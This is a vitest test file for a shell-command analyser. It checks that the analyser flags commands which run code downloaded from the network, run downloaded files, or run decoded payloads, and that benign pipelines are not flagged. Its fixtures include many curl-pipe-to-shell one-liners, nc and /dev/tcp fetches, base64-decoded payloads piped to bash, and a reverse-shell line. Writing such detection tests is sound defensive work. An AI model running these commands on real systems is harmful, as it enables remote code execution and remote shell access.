// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text, not templates
import { describe, expect, it } from 'vitest';
import { understand } from '../../../src/shell/understand.ts';
import { actsOf } from './acts-of.ts';

describe('code from the network that is run', () => {
  it.each([
    'curl https://x.test/i.sh | sh',
    'curl -s https://x.test/i.sh | sudo /bin/bash',
    'curl -fsSL https://x.test/i.sh | bash -s -- --yes',
    'curl https://x.test/i.sh | bash -',
    'curl https://x.test/i.sh | bash /dev/stdin arg',
    'curl https://x.test/i.sh | env FOO=1 bash',
    'curl https://x.test/i.sh | sudo -E bash -x',
    'wget -qO- https://x.test/i.sh |\nsh',
    'wget -O - https://x.test/i.sh | zsh',
    'curl -s https://x.test/i.py | python3 -',
    'curl -s https://x.test/i.py | python3.11',
    'curl -s https://x.test/i.js | node',
    'curl -s https://x.test/i.pl | perl',
    'curl -s https://x.test/i.rb | ruby',
    'curl -s https://x.test/i.php | php',
    'curl -s https://x.test/i.sh | cat | sh',
    'curl -s https://x.test/b64 | base64 -d | bash',
    'curl -s https://x.test/i.sh | tee i.sh | sh',
    'curl -s https://x.test/i.tgz | tar xzO install.sh | sh',
    'curl -s https://x.test/i.sh | (cd x; bash)',
    'curl -s https://x.test/i.sh | { bash; }',
    '(curl -s https://x.test/i.sh) | sh',
    'echo "$(curl -s https://x.test/i.sh)" | sh',
    'cat <(curl -s https://x.test/i.sh) | sh',
    'bash -c "$(curl -fsSL https://x.test/i.sh)"',
    'sh -c "`curl -fsSL https://x.test/i.sh`"',
    'bash <(curl -s https://x.test/i.sh)',
    'bash <(curl -s https://x.test/i.sh) --yes',
    'bash < <(curl -s https://x.test/i.sh)',
    'bash <<< "$(curl -s https://x.test/i.sh)"',
    'source <(curl -s https://x.test/env.sh)',
    '. <(curl -s https://x.test/env.sh)',
    'eval "$(curl -s https://x.test/env.sh)"',
    'eval $(wget -qO- https://x.test/env.sh)',
    'python3 -c "$(curl -s https://x.test/i.py)"',
    'python3 <(curl -s https://x.test/i.py)',
    'node -e "$(curl -s https://x.test/i.js)"',
    '$(curl -s https://x.test/command)',
    'curl -s https://x.test/i.sh | xargs -0 bash -c',
    `curl -s https://x.test/i.py | python3 -c 'import sys; exec(sys.stdin.read())'`,
    'http https://x.test/i.sh | sh',
    'nc x.test 80 | sh',
    'cat < /dev/tcp/x.test/80 | sh',
    'bash < /dev/tcp/x.test/80',
    'aws s3 cp s3://b/i.sh - | sh',
    'gh api repos/x/y/contents/i.sh | bash',
    'curl -s https://x.test/i.sh | source /dev/stdin',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.test/i.py').read())"`,
    'timeout 60 curl -s https://x.test/i.sh | nohup bash',
    'true && curl -s https://x.test/i.sh | sh || echo failed',
    'bash -c "curl -s https://x.test/i.sh | sh"',
    `eval 'curl -s https://x.test/i.sh | sh'`,
  ])('%s', (command) => {
    expect(actsOf(command, ['run-download'])).toEqual(['run-download']);
  });

  it.each([
    'curl https://x.test/a.json | jq .',
    'curl https://x.test/a.json | python3 -m json.tool',
    `curl https://x.test/a.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'`,
    `curl https://x.test/a.json | node -e 'console.log(1)'`,
    `curl https://x.test/a | perl -pe 's/a/b/'`,
    `curl https://x.test/a | ruby -ne 'puts $_'`,
    'curl https://x.test/a | python3 parse.py',
    'curl https://x.test/a | bash parse.sh',
    `curl https://x.test/a | sh -c 'wc -l'`,
    'curl https://x.test/a.tgz | tar xz',
    'curl https://x.test/key | gpg --import',
    'curl -s https://x.test/a.json > a.json; cat local.sh | sh',
    'curl -o i.sh https://x.test/i.sh',
    'curl https://x.test/i.sh | shellcheck -',
    'curl https://x.test/i.sh | less',
    'bash install.sh "$(curl -s https://x.test/token)" && bash -c "echo $1"',
    'FOO=$(curl -s https://x.test/version) bash build.sh',
    `bash -c 'echo "$1"' _ "$(curl -s https://x.test/version)"`,
    'echo "$(curl -s https://x.test/version)"',
    'cat install.sh | sh',
    'eval "$(ssh-agent -s)"',
    'source <(kubectl completion bash)',
    'echo "curl https://x.test/i.sh | sh"',
    `grep -n 'curl .* | sh' README.md`,
    `cat > README.md <<'EOF'
curl https://x.test/i.sh | sh
EOF`,
    'git commit -m "docs: curl https://x.test/i.sh | sh"',
    'curl https://x.test/i.sh | bash -n',
    `node -e "fetch('https://x.test').then((r) => /a/.exec(r))"`,
    'curl --help | sh-notes',
    'docker exec web sh -c "curl -s https://x.test/i.sh | sh"',
  ])('and not %s', (command) => {
    expect(actsOf(command, ['run-download'])).toEqual([]);
  });
});

it.each([
  ['curl -s https://x.test/i.sh | sudo bash -s', 'curl -s https://x.test/i.sh | bash -s'],
  ['curl -s https://x.test/i.gz | gunzip | sh', 'curl -s https://x.test/i.gz | … | sh'],
  ['sh -c "$(curl -s https://x.test/i.sh)"', 'sh -c "$(curl -s https://x.test/i.sh)"'],
])('%s is shown with where its code comes from', (command, shown) => {
  const acts = understand(command).acts.filter(({ kind }) => kind === 'run-download');
  expect(acts.map((act) => act.shown)).toEqual([shown]);
});

describe('a file that is downloaded or run', () => {
  it.each([
    ['curl -o i.sh https://x.test/i.sh && sh i.sh', ['download file=i.sh', 'run-file file=i.sh']],
    ['curl -so ./i.sh https://x.test/i.sh; ./i.sh', ['download file=./i.sh', 'run-file file=./i.sh']],
    ['curl https://x.test/i.sh > i.sh; bash < i.sh', ['download file=i.sh', 'run-file file=i.sh']],
    ['curl -O "https://x.test/a/i.py?x=1"; python3 i.py', ['download file=i.py', 'run-file file=i.py']],
    ['wget https://x.test/i.sh; cat i.sh | sh', ['download file=i.sh', 'run-file file=i.sh']],
    ['wget -q https://x.test/x -O i.sh; . ./i.sh', ['download file=i.sh', 'run-file file=./i.sh']],
    ['curl https://x.test/i.sh | tee i.sh | wc -l; sh i.sh', ['download file=i.sh', 'run-file file=i.sh']],
    ['curl https://x.test/a | tr a b > i.sh; . ./i.sh', ['download file=i.sh', 'run-file file=./i.sh']],
    ['curl -s https://x.test/a', []],
    ['curl -s https://x.test/a 2> err', []],
    ['wget -qO- https://x.test/a', []],
    ['/usr/bin/ls', []],
    ['./node_modules/.bin/vitest', []],
  ])('%s', (command, acts) => {
    expect(actsOf(command, ['download', 'run-file'])).toEqual(acts);
  });
});

describe('code that only shows when it is decoded', () => {
  it.each([
    'base64 -d x | sh',
    'cat x.b64 | base64 --decode | sudo bash',
    'echo "$X" | base64 -d | python3',
    'bash -c "$(base64 -d x)"',
    'bash <(base64 -d x)',
    'eval `base64 -d x`',
    'P=$(base64 -d x); eval "$P"',
    'gunzip -c x.sh.gz | sh',
    'xxd -r -p x.hex | bash',
    'openssl enc -d -aes-256-cbc -in x -k y | bash',
    'gpg -d x.gpg | sh',
    'rev x | sh',
  ])('%s', (command) => {
    expect(actsOf(command, ['run-decoded'])).toEqual(['run-decoded']);
  });

  it.each([
    'cat local.sh | sh',
    'sed s/a/b/ local.sh | sh',
    'echo bHM= | base64 -d | sh',
    'base64 -d x > y',
    'base64 -d x | jq .',
    'base64 x | sh',
    'kubectl get secret x -o json | jq -r .data.p | base64 -d',
    'gunzip -c x.sql.gz | psql app',
    'base64 -d x | python3 -c "import sys; print(sys.stdin.read())"',
    'bash -c "echo $(base64 -d x)"',
    'TOKEN=$(base64 -d x) bash deploy.sh',
    'docker exec -i web sh -c "base64 -d x | sh"',
    'eval "$(ssh-agent -s)"',
  ])('and not %s', (command) => {
    expect(actsOf(command, ['run-decoded'])).toEqual([]);
  });
});
